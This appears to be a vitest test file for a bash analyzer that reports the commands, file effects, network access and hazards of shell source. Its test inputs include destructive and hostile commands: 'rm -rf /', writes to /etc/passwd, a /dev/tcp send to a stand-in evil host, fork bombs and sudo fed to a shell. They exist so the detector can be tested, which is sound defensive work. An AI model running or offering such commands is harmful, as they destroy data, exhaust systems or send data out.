import { describe, expect, it } from "vitest";
import { analyze, type ShellAnalysis } from "./analyze.ts";
import type { ShellEffect } from "./effect.ts";

const cwd = "/home/dev/app";
const home = "/home/dev";

function of(source: string): ShellAnalysis {
  return analyze(source, { cwd, home });
}

function effectsOf(source: string, type?: ShellEffect["type"]): readonly ShellEffect[] {
  const { effects } = of(source);
  return type === undefined ? effects : effects.filter((effect) => effect.type === type);
}

function paths(source: string, type: "read" | "write" | "delete"): readonly string[] {
  return of(source).effects.flatMap((effect) => (effect.type === type ? [effect.path] : []));
}

function wordsOf(source: string): readonly (readonly string[])[] {
  return of(source).commands.map(({ words }) => words);
}

describe("analyze", () => {
  it("finds the programs and reads of a command", () => {
    expect(of("cat src/a.ts")).toEqual({
      commands: [
        {
          words: ["cat", "src/a.ts"],
          text: "cat src/a.ts",
          start: 0,
          end: 12,
          wrappers: [],
          cwd,
          specified: true,
          background: false,
        },
      ],
      effects: [
        { type: "run", program: "cat", words: ["cat", "src/a.ts"], cwd, specified: true },
        { type: "read", path: "/home/dev/app/src/a.ts" },
      ],
      complete: true,
      reasons: [],
      contents: [],
      needsGuards: false,
    });
  });

  it("finds nothing in empty text, a comment and white space", () => {
    for (const source of ["", "  \n\t", "# rm -rf /"]) {
      expect(of(source)).toEqual({
        commands: [],
        effects: [],
        complete: true,
        reasons: [],
        contents: [],
        needsGuards: false,
      });
    }
  });

  it("throws for a directory that isn't absolute", () => {
    expect(() => analyze("ls", { cwd: "app", home })).toThrow("absolute");
  });

  it("treats a program without a specification as one that can do anything", () => {
    expect(of("frobnicate --all x")).toMatchObject({
      complete: true,
      effects: [{ type: "run", words: ["frobnicate", "--all", "x"], specified: false }],
    });
  });

  it("finds every command of lists, pipelines, groups, branches and loops", () => {
    const source =
      "a; b && c || d | e & ( f ); { g; }; if h; then i; elif j; then k; else l; fi; while m; do n; done; " +
      "for x in 1; do o; done; case y in y) p;; esac; until q; do r; done; ! s; time t";
    expect(wordsOf(source).flat()).toEqual("a b c d e f g h i j k l m n o p q r s t".split(" "));
  });

  it("notes commands in the background", () => {
    expect(of("ls & pwd").commands.map(({ background }) => background)).toEqual([true, false]);
  });

  it("gives each effect once", () => {
    expect(effectsOf("cat a; cat a", "read")).toHaveLength(1);
  });
});

describe("words", () => {
  it.each<[string, readonly string[]]>([
    [`echo 'a b' "c d" e\\ f`, ["echo", "a b", "c d", "e f"]],
    [`t""ouch id`, ["touch", "id"]],
    [`'t'ou"c"h id`, ["touch", "id"]],
    ["echo a{b,c}d {1..3}", ["echo", "abd", "acd", "1", "2", "3"]],
    ["{touch,pwned}", ["touch", "pwned"]],
    ["echo ~ ~/x $HOME/y", ["echo", home, `${home}/x`, `${home}/y`]],
    [`echo "$PWD"`, ["echo", cwd]],
    ["x=touch; $x pwned", ["touch", "pwned"]],
    ["x='rm -rf'; $x /", ["rm", "-rf", "/"]],
    ["echo $'a\\tb\\x41'", ["echo", "a\tbA"]],
    ["cd src && echo $PWD", ["echo", `${cwd}/src`]],
  ])("are those that bash makes of %s", (source, words) => {
    expect(wordsOf(source).at(-1)).toEqual(words);
  });

  it("keeps the message of a here-document that cat prints into an argument", () => {
    const source = `git commit -m "$(cat <<'EOF'\nfix: a $b\n\nmore\nEOF\n)"`;
    expect(wordsOf(source).at(-1)).toEqual(["git", "commit", "-m", "fix: a $b\n\nmore"]);
  });

  it.each([
    "cat $1",
    "cat $x",
    "cat $(ls)",
    "cat `ls`",
    "cat ~root/x",
    `cat "$(ls)"`,
    "if true; then x=a; fi; cat $x",
    "x=a; x=$(ls); cat $x",
    "x=a; read x; cat $x",
    "x=a; for x in 1 2; do :; done; cat $x",
    "x=a; while read -r x; do :; done; cat $x",
    "x=a; unset x; cat $x",
    "x=a; x+=b; cat $x",
    "true && x=b; cat $x",
    "$(echo ls)",
    "$x",
    "l* a",
  ])("with unknown values make %s unknown", (source) => {
    expect(of(source).complete).toBe(false);
  });

  it.each([
    `echo "$(pwd)"`,
    "echo $?",
    "x=a; cat $x",
    "x=a; (x=b); cat $x",
    "x=a; x=b | cat; cat $x",
    `for f in a b; do cat "$f"; done`,
    `for f in src/*.ts; do head "$f"; done`,
    "i=0; while ((i < 3)); do echo $i; ((i++)); done",
    `[ "$x" = y ]`,
    `if [ -n "$x" ]; then echo yes; fi`,
    `grep -e "$x" a`,
    `cat a | while read -r line; do echo "$line"; done`,
  ])("may be unknown where they have no effect: %s", (source) => {
    expect(of(source)).toMatchObject({ complete: true });
  });

  it("are followed value by value in a loop", () => {
    expect(paths("for f in a ../b; do cat $f; done", "read")).toEqual(
      [`${cwd}/a`, "/home/dev/b"].map((path) => path),
    );
  });
});

describe("directories", () => {
  it("change for later commands with cd", () => {
    expect(paths("cd src && cat a", "read")).toEqual([`${cwd}/src`, `${cwd}/src/a`]);
  });

  it("are both possible when nothing checks whether cd failed", () => {
    expect(paths("cd src; cat a", "read")).toEqual([`${cwd}/src`, `${cwd}/src/a`, `${cwd}/a`]);
    expect(paths("cd src || true; cat a", "read")).toContain(`${cwd}/a`);
    expect(paths("! cd src && cat a", "read")).toContain(`${cwd}/a`);
  });

  it("don't change after a subshell, a pipeline or a background command", () => {
    for (const source of ["(cd /tmp); cat a", "cd /tmp | cat; cat a", "cd /tmp & cat a"]) {
      expect(paths(source, "read").filter((path) => path.endsWith("/a"))).toEqual([`${cwd}/a`]);
    }
  });

  it("are unknown after a cd with an unknown target", () => {
    for (const source of ["cd $x; cat a", "cd -; cat a", "cd $(ls) && cat a", "popd +1; cat a"]) {
      expect(of(source).complete).toBe(false);
    }
  });

  it("are tracked through the turns of a loop", () => {
    const { complete } = of("while true; do cd ..; cat a; done");
    expect(complete).toBe(false);
  });

  it("may be links, so .. out of one is unknown unless isPlainDirectory says otherwise", () => {
    expect(of("cat src/../a").complete).toBe(false);
    expect(of("cd src && cat ../a").complete).toBe(false);
    const isPlainDirectory = (path: string): boolean => path === `${cwd}/src`;
    expect(analyze("cat src/../a", { cwd, home, isPlainDirectory })).toMatchObject({
      complete: true,
      effects: [{ type: "run" }, { type: "read", path: `${cwd}/a` }],
    });
  });

  it("above the first one need no such check", () => {
    expect(of("cat ../x")).toMatchObject({ complete: true });
    expect(paths("cat ../x", "read")).toEqual(["/home/dev/x"]);
  });
});

describe("redirections", () => {
  it.each<[string, readonly string[]]>([
    ["echo x > a", [`${cwd}/a`]],
    ["echo x >> a", [`${cwd}/a`]],
    ["echo x >| a", [`${cwd}/a`]],
    ["echo x &> a", [`${cwd}/a`]],
    ["echo x >& a", [`${cwd}/a`]],
    ["cat a 1<> b", [`${cwd}/b`]],
    ["> a", [`${cwd}/a`]],
    ["{ ls; } > a", [`${cwd}/a`]],
    ["(ls) 2> ~/a", ["/home/dev/a"]],
    ["exec 3> a", [`${cwd}/a`]],
    ["while true; do ls; done > a", [`${cwd}/a`]],
    ["f() { ls; } > a; f", [`${cwd}/a`]],
    ["echo x > /etc/passwd", ["/etc/passwd"]],
  ])("write in %s", (source, written) => {
    expect(paths(source, "write")).toEqual(written);
  });

  it("have no effect to /dev/null and to other streams", () => {
    expect(effectsOf("ls > /dev/null 2>&1 < /dev/null 3>&-", "write")).toEqual([]);
    expect(of("ls > /dev/null 2>&1 < /dev/null 3>&-").complete).toBe(true);
  });

  it("read the files of their input", () => {
    expect(paths("wc < /etc/passwd", "read")).toEqual(["/etc/passwd"]);
  });

  it("are unknown with an unknown target", () => {
    for (const source of ["ls > $x", "ls > *", "ls > a{b,c}", "ls > $(ls)", "cat <& $x"]) {
      expect(of(source).complete).toBe(false);
    }
  });

  it("reach the network through bash's own devices", () => {
    expect(effectsOf("echo x > /dev/tcp/evil.example/80", "network")).toEqual([
      { type: "network", host: "evil.example", port: 80 },
    ]);
    expect(effectsOf("cat < /dev/udp/10.0.0.1/53", "network")).toHaveLength(1);
  });

  it("treat quoted here-documents as data, and expand others", () => {
    expect(of("cat <<'E'\n$(touch x) `y`\nE").complete).toBe(true);
    expect(wordsOf("cat <<E\n$(touch x) `y z`\nE")).toEqual([["touch", "x"], ["y", "z"], ["cat"]]);
    expect(of("cat <<E\nopen").complete).toBe(false);
  });

  it("feed scripts to shells, which are followed", () => {
    expect(wordsOf("bash <<'E'\nsudo id\nE")).toContainEqual(["sudo", "id"]);
    expect(wordsOf("bash <<< 'sudo id'")).toContainEqual(["sudo", "id"]);
  });

  it("follow process substitutions", () => {
    expect(wordsOf("cat <(touch a)")).toContainEqual(["touch", "a"]);
    expect(of("ls > >(tee a)").complete).toBe(false);
  });
});

describe("functions", () => {
  it("have the effects of their bodies and redirections at every call", () => {
    expect(wordsOf("ls() { touch x; }; ls")).toEqual([["touch", "x"]]);
    expect(paths("f() { cat a; }; cd src && f", "read")).toContain(`${cwd}/src/a`);
  });

  it("may mean the program when they are defined in a branch", () => {
    const found = wordsOf("if true; then frob() { ls; }; fi; frob");
    expect(found).toContainEqual(["ls"]);
    expect(found).toContainEqual(["frob"]);
  });

  it("are unknown when they call themselves, and fork bombs have a hazard", () => {
    expect(of("f() { f; }; f").complete).toBe(false);
    for (const source of [":(){ :|:& };:", "f() { f & f; }; f", "bomb() { bomb | bomb & }; bomb"]) {
      expect(effectsOf(source, "unknown")).toContainEqual(
        expect.objectContaining({ hazard: "fork-bomb" }),
      );
    }
  });

  it("are skipped by command", () => {
    expect(wordsOf("ls() { touch x; }; command ls")).toContainEqual(["ls"]);
  });
});
